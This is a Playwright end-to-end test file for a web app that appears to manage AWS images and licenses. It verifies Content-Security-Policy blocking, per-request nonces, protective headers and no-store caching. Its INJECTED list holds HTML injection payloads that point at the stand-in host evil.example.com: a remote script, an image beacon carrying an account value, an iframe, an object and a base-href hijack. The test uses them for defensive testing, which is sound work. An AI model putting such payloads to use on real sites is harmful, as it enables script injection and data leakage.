import type { APIResponse, Page } from "@playwright/test";
import { addresses, SIGN_IN } from "@/e2e/support/addresses";
import { test as base, expect } from "@/e2e/support/aws";
import { browserFiles, filledIn, pathsOfTheBuild } from "@/e2e/support/build";
import { saved } from "@/e2e/support/csv";
import { inVirginia } from "@/e2e/support/pages";
import { readRows } from "@/e2e/support/read-rows";
import { pickerButton } from "@/e2e/support/scope-picker";
import { sessionValue } from "@/e2e/support/sign-in";
import { chart, grid, openRow, panel, rows } from "@/e2e/support/table";
import type { LicenseConfiguration } from "@/lib/resources/license-configurations";

/** A page may not do what the policy forbids: it would be logged as an error, which fails a test. */
const test = base.extend({
  page: async ({ page }, use) => {
    await page.addInitScript(() => {
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample, sourceFile, lineNumber }) =>
        console.error(`The policy forbids: ${effectiveDirective} ${blockedURI} ${sample} at ${sourceFile}:${lineNumber}`),
      );
    });
    await use(page);
  },
});

test("a page that is not there does nothing that its policy forbids either", async ({ page }) => {
  await page.goto("/nowhere");
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
});

test("what opens over a page works under its policy", async ({ page }) => {
  await page.goto(inVirginia("/fast-launch-images"));
  await expect(rows(page)).toHaveCount(9);

  await test.step("a dialog keeps the page behind it still, and asks AWS for less", async () => {
    await page.getByRole("button", { name: "AWS filters" }).click();
    await expect(page.getByRole("dialog", { name: "Ask AWS for less" })).toBeVisible();
    expect(await page.evaluate(() => getComputedStyle(document.body).overflow)).toBe("hidden");
    await page.getByRole("dialog").getByRole("button", { name: "Read again" }).click();
    await expect(page.getByRole("dialog")).toBeHidden();
  });
  await test.step("columns, accounts and regions", async () => {
    for (const opener of [page.getByRole("button", { name: "Columns" }), pickerButton(page)]) {
      await opener.click();
      await expect(page.getByRole("dialog")).toBeVisible();
      await page.keyboard.press("Escape");
      await expect(page.getByRole("dialog")).toBeHidden();
    }
  });
  await test.step("a row", async () => {
    await openRow(page, "us-east-1");
    await panel(page).getByText("Every member, as AWS gave it").click();
    await page.keyboard.press("Escape");
  });
  await test.step("the palette leads to another page, whose parts are loaded then", async () => {
    await page.keyboard.press("Control+k");
    await page.getByRole("dialog", { name: "Go to" }).getByRole("combobox").fill("License usage");
    await page.keyboard.press("Enter");
    await expect(page.getByRole("heading", { level: 1 })).toHaveText("License usage");
    await expect(rows(page).nth(5)).toBeVisible();
  });
  await test.step("a question before something is written", async () => {
    await page.goto(inVirginia("/image-usage-reports"));
    await openRow(page, "available");
    await panel(page).getByRole("button", { name: "Delete report" }).click();
    await expect(page.getByRole("alertdialog")).toBeVisible();
    await page.keyboard.press("Escape");
  });
});

test("charts, files, print and the matrix work under the policy", async ({ page }) => {
  await test.step("bars are as long as what they stand for", async () => {
    await page.goto(inVirginia("/image-usage-report-entries"));
    const shown = chart(page, "Which accounts use our images most?");
    const bars = shown.locator(".recharts-bar-rectangle path");
    await expect(bars.first()).toBeVisible();
    const widths = await bars.evaluateAll((all) => all.map((bar) => bar.getBoundingClientRect().width));
    expect(Math.max(...widths)).toBeGreaterThan(50);
    await shown.getByRole("button", { name: "View as table" }).click();
    await expect(shown.getByRole("table")).toBeVisible();
  });
  await test.step("the table is as wide as its columns", async () => {
    const [row, table] = await Promise.all([rows(page).first().boundingBox(), grid(page).boundingBox()]);
    expect(row?.width).toBe(table?.width);
  });
  await test.step("a file is saved", async () => {
    expect((await saved(page)).text.split("\r\n").length).toBeGreaterThan(1_000);
  });
  await test.step("the matrix is drawn, and saved", async () => {
    await page.goto(inVirginia("/usage-matrix"));
    await expect(grid(page)).toBeVisible();
    await expect.poll(() => coloursOf(page)).toBeGreaterThan(3);
    expect((await saved(page)).name).toMatch(/\.csv$/);
  });
  await test.step("evidence is printed", async () => {
    await page.goto(inVirginia(`/license-configurations/${await aConfiguration(page)}`));
    await expect(page.getByText("Complete", { exact: true })).toBeVisible();
    await page.emulateMedia({ media: "print" });
    await expect(page.getByText(/^AMI Ledger, printed/)).toBeVisible();
    expect((await page.pdf()).byteLength).toBeGreaterThan(10_000);
  });
});

/** What somebody might bring into a page, the directive that stops it, and whether it would show that it had run. */
const INJECTED = [
  ["<script>ran('inline')</script>", "script-src-elem"],
  ["<script nonce='b2xk'>ran('nonce')</script>", "script-src-elem"],
  ["<script src='/iam/reader-policy.json'></script>", "script-src-elem"],
  ["<script src='https://evil.example.com/x.js'></script>", "script-src-elem"],
  ["<img src='/icon.svg' onload=\"ran('onload')\" alt=''>", "script-src-attr"],
  ["<style>main { display: none }</style>", "style-src-elem"],
  ["<link rel='stylesheet' href='https://evil.example.com/x.css'>", "style-src-elem"],
  ["<img src='https://evil.example.com/?account=1' alt=''>", "img-src"],
  ["<iframe src='https://evil.example.com/' title='x'></iframe>", "frame-src"],
  ["<object data='https://evil.example.com/x'></object>", "object-src"],
  ["<base href='https://evil.example.com/'>", "base-uri"],
] as const;

test("whatever gets into a page is stopped, and the page goes on", async ({ browser, baseURL }) => {
  const page = await browser.newPage({ ...(baseURL !== undefined && { baseURL }) });
  await page.addInitScript(() => {
    const stopped: string[] = [];
    Object.assign(window, { stopped, ran: (how: string) => document.documentElement.setAttribute("data-ran", how) });
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.push(effectiveDirective));
  });
  const injected = INJECTED.map(([html]) => html).join("");
  await page.route(/\/fast-launch-images\?/, async (route) => {
    if (route.request().resourceType() !== "document") return route.fallback();
    const response = await route.fetch();
    await route.fulfill({ response, body: (await response.text()).replace("</head>", `${injected}</head>`) });
  });
  await page.goto(inVirginia("/fast-launch-images"));

  await expect(rows(page)).toHaveCount(9);
  await expect
    .poll(async () => (await page.evaluate<string[]>("window.stopped")).toSorted())
    .toEqual(INJECTED.map(([, directive]) => directive).toSorted());
  await expect(page.locator("html")).not.toHaveAttribute("data-ran");
  await page.close();
});

test("every page has a nonce of its own, whatever nonce was sent", async ({ request }) => {
  const ask = async () => {
    const answer = await request.get("/images", { headers: { "content-security-policy": "script-src 'nonce-c2VudA=='" } });
    return { nonce: /'nonce-([^']+)'/.exec(answer.headers()["content-security-policy"] ?? "")?.[1], html: await answer.text() };
  };
  const [first, second] = [await ask(), await ask()];

  expect(first.nonce).toMatch(/^[\w+/]{22}==$/);
  expect(first.nonce).not.toBe(second.nonce);
  const tags = [...first.html.matchAll(/<(?:script|style)\b[^>]*>/g)].map(([tag]) => tag);
  expect(tags.length).toBeGreaterThan(5);
  expect(tags.filter((tag) => !tag.includes(`nonce="${first.nonce}"`))).toEqual([]);
});

const PROTECTION = {
  "content-security-policy": expect.stringMatching(/^default-src 'none'; script-src 'nonce-[^']+' 'strict-dynamic';/),
  "x-content-type-options": "nosniff",
  "x-frame-options": "DENY",
  "referrer-policy": "same-origin",
  "permissions-policy": expect.stringContaining("camera=()"),
  "cross-origin-opener-policy": "same-origin",
  "cross-origin-resource-policy": "same-origin",
};
const NOT_KEPT = expect.stringMatching(/^private\b.*\bno-store\b/);
const { appUrl } = addresses(SIGN_IN);

for (const [what, address, status, kept] of [
  ["a page", "/images", 200, NOT_KEPT],
  ["rows", "/api/fast-launch-images?region=us-east-1", 200, NOT_KEPT],
  ["a file of rows", "/api/fast-launch-images?region=us-east-1&format=csv", 200, NOT_KEPT],
  ["a refused parameter", "/api/fast-launch-images?region=mars-1", 400, NOT_KEPT],
  ["the sign of life", "/api/health", 200, NOT_KEPT],
  ["a file for those who are signed in", "/iam/reader-policy.json", 200, NOT_KEPT],
  ["the icon", "/icon.svg", 200, "public, max-age=0, must-revalidate"],
  ["an address that is no page", "/nowhere", 404, NOT_KEPT],
  ["an address that is no route", "/api/nowhere", 404, NOT_KEPT],
  ["a file that is not there", "/_next/static/nowhere.js", 404, NOT_KEPT],
  ["a route without a session", `${appUrl}/api/scopes`, 401, NOT_KEPT],
  ["a page without a session", `${appUrl}/images`, 307, NOT_KEPT],
  ["the sign-in", `${appUrl}/sign-in`, 200, NOT_KEPT],
  ["the way to the provider", `${appUrl}/api/auth/sign-in`, 303, NOT_KEPT],
] as const) {
  test(`${what} has the headers that protect it`, async ({ request }) => {
    const answer = await request.get(address, { maxRedirects: 0 });

    expect(answer.status()).toBe(status);
    expectProtected(answer);
    expect(answer.headers()["cache-control"]).toEqual(kept);
    expect(answer.headers()["strict-transport-security"]).toBeUndefined();
  });
}

test("what browsers load may be kept for ever, and is protected too", async ({ request }) => {
  for (const { path } of await browserFiles()) {
    const answer = await request.get(path);
    expect(answer.headers()["cache-control"], path).toBe("public, max-age=31536000, immutable");
    expectProtected(answer);
  }
});

test("behind https, browsers are told to keep to it", async ({ request }) => {
  const answer = await request.get("/images", { headers: { "x-forwarded-proto": "https" } });

  expect(answer.headers()["strict-transport-security"]).toBe("max-age=31536000");
});

test("no answer of any route is kept by a cache, whoever asks and however it ends", async ({ request }) => {
  const routes = (await pathsOfTheBuild()).filter((path) => path.startsWith("/api/"));
  expect(routes.length).toBeGreaterThan(15);
  const people = { stranger: "", viewer: await sessionValue(), operator: await sessionValue({ groups: ["operators"] }) };
  for (const [who, session] of Object.entries(people)) {
    for (const route of routes) {
      for (const method of ["GET", "HEAD", "OPTIONS", "POST", "DELETE"]) {
        const answer = await request.fetch(`${appUrl}${filledIn(route)}`, {
          method,
          params: method === "GET" && !route.includes("[") ? { region: "us-east-1" } : {},
          headers: { cookie: `ledger-session=${session}`, origin: appUrl },
          maxRedirects: 0,
        });
        expect(answer.headers()["cache-control"], `${method} ${route} by ${who}: ${answer.status()}`).toEqual(NOT_KEPT);
      }
    }
  }
});

function expectProtected(answer: APIResponse): void {
  expect(answer.headers(), answer.url()).toMatchObject(PROTECTION);
  const names = answer.headersArray().map(({ name }) => name.toLowerCase());
  for (const name of [...Object.keys(PROTECTION), "cache-control"]) {
    expect(names.filter((other) => other === name).length, `${name} of ${answer.url()}`).toBeLessThanOrEqual(1);
  }
}

/** How many colours the cells of the matrix have. */
const coloursOf = (page: Page): Promise<number> =>
  page.evaluate(() => {
    const canvas = document.querySelector<HTMLCanvasElement>("[role=grid] canvas, canvas");
    const { data = [] } = canvas?.getContext("2d")?.getImageData(0, 0, canvas.width, canvas.height) ?? {};
    const colours = new Set<string>();
    for (let at = 0; at < data.length; at += 4) colours.add(`${data[at]},${data[at + 1]},${data[at + 2]}`);
    return colours.size;
  });

async function aConfiguration(page: Page): Promise<string | null> {
  const configurations = await readRows<LicenseConfiguration>(page.request, "/license-configurations");
  return configurations.find(({ name }) => name?.startsWith("MATLAB"))?.licenseConfigurationArn ?? null;
}
